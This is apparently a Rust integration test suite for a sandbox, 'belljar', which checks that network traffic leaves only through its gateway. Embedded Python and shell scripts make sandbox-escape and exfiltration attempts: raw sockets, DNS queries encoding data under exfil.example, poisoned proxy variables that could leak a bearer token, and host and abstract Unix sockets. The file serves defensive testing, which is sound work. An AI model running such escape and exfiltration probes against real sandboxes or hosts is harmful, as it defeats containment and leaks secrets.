//! Promise: every way out but the gateway is closed. What counts is what the
//! origins received; the same attempts outside of a belljar arrive, all of them.

mod harness;
mod world;

use std::collections::BTreeMap;
use std::os::unix::net::UnixListener;

use harness::text::answers;
use harness::{Jar, Live, SOON, eventually};
use world::{HOST, TOKEN, World};

/// Attempts, each with a mark in what it sends.
const ATTEMPTS: &str = r#"
def send_tcp(host, port):
    stream = tcp(host, port)
    stream.sendall(b'mark-tcp')
    stream.settimeout(1)
    return rest(stream, 8).decode('latin-1')
def send_udp(family, host, port):
    def go():
        link = socket.socket(family, socket.SOCK_DGRAM)
        for _ in range(3):
            link.sendto(b'mark-udp', (host, port))
    return go
def icmp(kind):
    def go():
        link = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        body = struct.pack('!BBHHH', 8, 0, 0, 1, 1)
        total = sum(struct.unpack('!4H', body)); total = (total >> 16) + (total & 0xffff)
        link.sendto(body[:2] + struct.pack('!H', 0xffff & ~total) + body[4:], ('203.0.113.10', 0))
        link.settimeout(1)
        link.recv(64)
    return go
def dns(server, port=53, family=socket.AF_INET, stream=False):
    query = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\x0bmark-exfilt\4test\0\0\1\0\1'
    def go():
        if stream:
            link = tcp(server, port); link.sendall(struct.pack('!H', len(query)) + query)
        else:
            link = socket.socket(family, socket.SOCK_DGRAM); link.sendto(query, (server, port))
        link.settimeout(1)
        return link.recv(512).hex()
    return go
for port in (22, 25, 853, 5432, 8443, 9443, 3000, 8080):
    attempt('tcp %d' % port, lambda: send_tcp('203.0.113.10', port))
attempt('tcp6 22', lambda: send_tcp('2606:4700::1111', 22))
attempt('tcp mapped', lambda: send_tcp('::ffff:203.0.113.10', 22))
attempt('icmp', icmp(socket.SOCK_DGRAM))
attempt('raw icmp', icmp(socket.SOCK_RAW))
for port in (443, 53, 123, 5353, 8443):
    attempt('udp %d' % port, send_udp(socket.AF_INET, '203.0.113.11', port))
attempt('udp6 443', send_udp(socket.AF_INET6, '2606:4700::1111', 443))
attempt('dns', dns('8.8.8.8'))
attempt('dns of the host', dns('198.51.100.2'))
attempt('dns over tcp', dns('1.1.1.1', stream=True))
attempt('multicast', send_udp(socket.AF_INET, '224.0.0.251', 5353))
attempt('broadcast', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'mark-udp', ('198.51.100.255', 443)))
for family in (17, 40, 16, 38, 31, 9, 30):
    attempt('family %d' % family, lambda: socket.socket(family, socket.SOCK_DGRAM if family != 17 else socket.SOCK_RAW).close())
for kind, protocol in ((socket.SOCK_STREAM, 132), (socket.SOCK_STREAM, 262), (socket.SOCK_DGRAM, 136), (socket.SOCK_RAW, 255)):
    attempt('protocol %d' % protocol, lambda: socket.socket(socket.AF_INET, kind, protocol).connect(('203.0.113.10', 22)))
"#;

/// Datagrams and bytes that the origins got from the attempts.
fn arrived(world: &World) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for event in ["udp", "bytes", "dns", "tcp-dns", "tcp"] {
        counts.insert(event.to_owned(), world.packets(event).len());
    }
    let snmp = world.out_there("cat", &["/proc/net/snmp"]).success().out();
    let lines: Vec<&str> = snmp.lines().filter(|line| line.starts_with("Icmp:")).collect();
    let column = lines[0].split(' ').position(|name| name == "InEchos").expect("a column");
    counts.insert("echos".to_owned(), lines[1].split(' ').nth(column).and_then(|text| text.parse().ok()).unwrap_or(0));
    counts
}

#[test]
fn nothing_but_what_the_gateway_sends_arrives_anywhere() {
    let Some(world) = World::new() else { return };
    let script = format!("{ATTEMPTS}\nprint(json.dumps({{'name': 'end', 'answer': 'ok'}}))");
    let found = answers(&world.python(&[], &script).success().out());
    let counts = arrived(&world);
    assert!(counts.values().all(|count| *count == 0), "{counts:?} {}\n{found:?}", world.everything());
    // A DNS server anywhere is the gateway, which answers out of its own range
    // and asks nobody.
    assert!(found["dns"].starts_with("1234"), "{found:?}");
    assert!(found["dns over tcp"].contains("1234"), "{found:?}");
    for name in ["icmp", "raw icmp", "tcp 22", "tcp6 22", "tcp 8443", "family 17", "family 40"] {
        assert!(!found[name].starts_with("ok"), "{name}: {found:?}");
    }
    // The control: all of it arrives, sent by an ordinary process.
    let found = answers(&world.python_outside(ATTEMPTS).out());
    eventually("the control's datagrams come", SOON, || world.packets("udp").len() > 10);
    let counts = arrived(&world);
    for (name, least) in [("udp", 15), ("bytes", 4), ("dns", 2), ("tcp-dns", 1), ("tcp", 8)] {
        assert!(counts[name] >= least, "{name}: {counts:?} {found:?}");
    }
    assert_eq!(found["tcp 22"], "mark-tcp", "{found:?}");
}

#[test]
fn without_proxy_variables_or_with_poisoned_ones_the_same_gateway_answers() {
    let Some(world) = World::new() else { return };
    world.secret("a", &["--host", "a.test", "--bearer"], TOKEN);
    let script = "unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy NO_PROXY no_proxy NODE_USE_ENV_PROXY; \
        curl -sS https://a.test/unset; curl -sS http://b.test/plain; curl -sS --resolve a.test:443:203.0.113.11 https://a.test/resolve; \
        curl -sS --connect-to ::203.0.113.12: https://a.test/connect; curl -sS http://203.0.113.11/literal; \
        HTTPS_PROXY=http://203.0.113.12:8080 curl -sS --max-time 3 https://a.test/poisoned; \
        HTTPS_PROXY=http://c.test:80 curl -sS --max-time 3 https://a.test/poisoned; \
        HTTPS_PROXY=socks5h://203.0.113.12:22 curl -sS --max-time 3 https://a.test/poisoned; NO_PROXY='*' curl -sS https://a.test/no";
    let out = world.sh(script);
    let at = |path: &str| {
        let found = world.requests_to(path);
        assert_eq!(found.len(), 1, "{path}: {found:?}\n{}\n{}", out.out(), out.err());
        found[0].clone()
    };
    for path in ["/unset", "/resolve", "/connect", "/no"] {
        let request = at(path);
        assert_eq!(request["dialled"], "203.0.113.10", "the gateway resolves the name itself: {request}");
        assert_eq!(world::header(&request, "authorization"), Some(format!("Bearer {TOKEN}")));
    }
    assert_eq!(at("/plain")["dialled"], "203.0.113.11");
    assert_eq!(at("/literal")["dialled"], "203.0.113.11");
    for one in world.requests() {
        // Whatever the poisoned variable named, no request was sent to it with the credential.
        assert!(one["dialled"] != "203.0.113.12" || !one.to_string().contains(TOKEN), "{one}");
    }
    assert_eq!(world.packets("bytes").len(), 0);
}

#[test]
fn the_hosts_sockets_and_ports_are_out_of_reach_and_a_relay_inside_leads_nowhere_else() {
    let Some(world) = World::with_host_origin() else { return };
    // An abstract socket and one below the project, in the host's network namespace.
    let listener = UnixListener::bind(world.jar.path("project/host.sock")).expect("listen");
    let script = format!(
        "
def unix(name):
    link = socket.socket(socket.AF_UNIX); link.settimeout(2); link.connect(name); return 'ok'
attempt('bound', lambda: unix('/workspace/project/host.sock'))
attempt('abstract', lambda: unix('\\0belljar-test-abstract'))
for port in (80, 22, 8080):
    attempt('loopback %d' % port, lambda: exchange(tcp('127.0.0.1', port), get('127.0.0.1', '/loopback')).decode('latin-1'))
    attempt('host %d' % port, lambda: exchange(tcp('{HOST}', port), get('{HOST}', '/loopback')).decode('latin-1'))
attempt('by name', lambda: exchange(tcp('127.0.0.1', 3128), get('own.test', 'http://own.test/loopback')).decode('latin-1'))
attempt('by connect', lambda: connect('127.0.0.1:80')[1])
attempt('proxy itself', lambda: connect('127.0.0.1:3128')[1])
# A relay inside: it listens on every address, and still is only inside.
relay = socket.socket(); relay.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); relay.bind(('0.0.0.0', 4444)); relay.listen()
def serve():
    stream, _ = relay.accept(); stream.sendall(b'relayed'); stream.close()
threading.Thread(target=serve, daemon=True).start()
attempt('relay', lambda: rest(tcp('203.0.113.99', 4444)).decode())
"
    );
    let abstract_control = "
import os
link = socket.socket(socket.AF_UNIX); link.bind('\\0belljar-test-abstract'); link.listen(); print('bound', flush=True); time.sleep(40)";
    let mut command = world.command("/usr/bin/python3");
    command.args(["-c", &format!("{}\n{abstract_control}", world::prelude())]);
    let bound = Live::start(command);
    bound.wait_for("bound");
    let found = answers(&world.python(&[], &script).success().out());
    assert!(!found["abstract"].starts_with("ok") && !found["bound"].starts_with("ok"), "{found:?}");
    assert_eq!(found["relay"], "relayed", "addresses inside are inside: {found:?}");
    let host = world::json_lines(&world.jar.path("world/host/requests.jsonl"));
    assert!(host.is_empty(), "{host:?}\n{found:?}");
    let tcp = world::json_lines(&world.jar.path("world/host/packets.jsonl"));
    assert!(tcp.is_empty(), "nobody dialled the host itself: {tcp:?}");
    // The controls.
    let outside = answers(&world.python_outside(&script).out());
    assert!(outside["loopback 80"].contains("origin"), "{outside:?}");
    assert!(outside["host 80"].contains("origin"), "{outside:?}");
    assert_eq!(outside["abstract"], "ok", "{outside:?}");
    drop(listener);
}

#[test]
fn egress_none_has_not_even_listeners() {
    let Some(world) = World::new() else { return };
    let script = "
for port in (3128, 80, 443, 53):
    attempt(str(port), lambda: tcp('127.0.0.1', port).close())
attempt('name', lambda: socket.getaddrinfo('a.test', 443) and None)
attempt('public', lambda: tcp('203.0.113.10', 443).close())
tell('variables', str([name for name in os.environ if 'proxy' in name.lower()]))
";
    let found = answers(&world.python(&["--egress", "none"], script).success().out());
    for name in ["3128", "80", "443", "53", "name", "public"] {
        assert!(!found[name].starts_with("ok"), "{found:?}");
    }
    assert_eq!(found["variables"], "[]");
    assert_eq!(world.everything(), "");
    let found = answers(&world.python(&[], script).success().out());
    assert_eq!(found["3128"], "ok", "the control: with the gateway they are there");
}

#[test]
fn the_name_server_answers_from_a_range_of_its_own_and_asks_nobody() {
    let Some(world) = World::new() else { return };
    let script = "
def look(name, family=0):
    return sorted({entry[4][0] for entry in socket.getaddrinfo(name, 443, family, socket.SOCK_STREAM)})
attempt('a', lambda: str(look('a.test')))
attempt('again', lambda: str(look('a.test')))
attempt('b', lambda: str(look('b.test')))
attempt('unknown', lambda: str(look('c2VjcmV0LWRhdGE.exfil.example')))
attempt('private', lambda: str(look('private.test')))
for number in range(300):
    try: look('n%d.flood.test' % number)
    except OSError: pass
attempt('after', lambda: str(look('a.test')))
";
    let found = answers(&world.python(&[], script).success().out());
    assert_eq!(found["a"], found["again"]);
    assert_ne!(found["a"], found["b"]);
    assert!(!found["a"].contains("203.0.113") && !found["private"].contains("10.0.0.5"), "{found:?}");
    assert!(found["after"].starts_with('['), "{found:?}");
    assert_eq!(world.packets("dns").len() + world.packets("udp").len(), 0, "{}", world.everything());
}

#[test]
fn a_tcp_rule_opens_a_raw_tunnel_to_that_host_and_port_for_that_group_only() {
    let Some(world) = World::new() else { return };
    world.policy(
        "[[tcp]]\nhost = \"b.test\"\nport = 5432\ngroups = [\"main\"]\n[[tcp]]\nhost = \"c.test\"\nport = 22\n",
    );
    world.groups(&["other"]);
    let script = "
def talk(host, port):
    stream = tcp(host, port); stream.settimeout(3); stream.sendall(b'hello raw'); return rest(stream, 9).decode('latin-1')
for host, port in (('b.test', 5432), ('c.test', 22), ('a.test', 5432), ('b.test', 22), ('203.0.113.11', 5432), ('b.test', 6379)):
    attempt('%s %d' % (host, port), lambda: talk(host, port))
def through(target):
    stream, line = connect(target)
    if ' 200' not in line: return line
    stream.settimeout(3); stream.sendall(b'hello raw'); return rest(stream, 9).decode('latin-1')
for target in ('b.test:5432', 'a.test:5432', 'b.test:22'):
    attempt('CONNECT ' + target, lambda: through(target))
";
    let found = answers(&world.python(&[], script).success().out());
    for name in ["b.test 5432", "c.test 22", "CONNECT b.test:5432"] {
        assert_eq!(found[name], "hello raw", "{found:?}");
    }
    let dialled: Vec<(String, u64)> = world
        .packets("tcp")
        .iter()
        .map(|one| (one["dialled"].as_str().unwrap_or_default().to_owned(), one["port"].as_u64().unwrap_or_default()))
        .collect();
    let allowed = [("203.0.113.11".to_owned(), 5432), ("203.0.113.12".to_owned(), 22)];
    assert!(dialled.iter().all(|one| allowed.contains(one)), "{dialled:?} {found:?}");
    // Another group has the rule that names no group, and no other.
    let found = answers(&world.python(&["--group", "other"], script).success().out());
    assert_eq!(found["c.test 22"], "hello raw", "{found:?}");
    assert_ne!(found["b.test 5432"], "hello raw", "{found:?}");
    assert_ne!(found["CONNECT b.test:5432"], "hello raw", "{found:?}");
}

#[test]
fn egress_open_is_refused_with_a_hint_where_pasta_is_not() {
    if harness::system_program("pasta").is_some() {
        // Tested with pasta by tests of that mode.
        return;
    }
    let jar = Jar::new();
    jar.run(&["--egress", "open"], &["true"]).exits(125).says(&["pasta", "hint:"]);
}
